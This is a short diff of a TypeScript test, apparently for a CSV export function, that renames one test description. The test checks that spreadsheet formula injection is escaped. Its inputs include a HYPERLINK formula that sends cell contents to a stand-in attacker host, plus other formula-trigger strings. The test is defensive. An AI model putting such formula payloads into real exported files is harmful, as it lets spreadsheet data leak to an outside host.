@@ -10,7 +10,7 @@ function toRows(...labels: readonly string[]): readonly Record<string, string>[]
 }
 
 test.each(['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '＝1', "'=1"])(
-  'keysCsv turns the label %p, which a spreadsheet would run, into text',
+  'keysCsv escapes the label %p, which a spreadsheet would run as a formula',
   (label) => {
     expect(toRows(label)).toMatchObject([{ label: `'${label}` }]);
   },
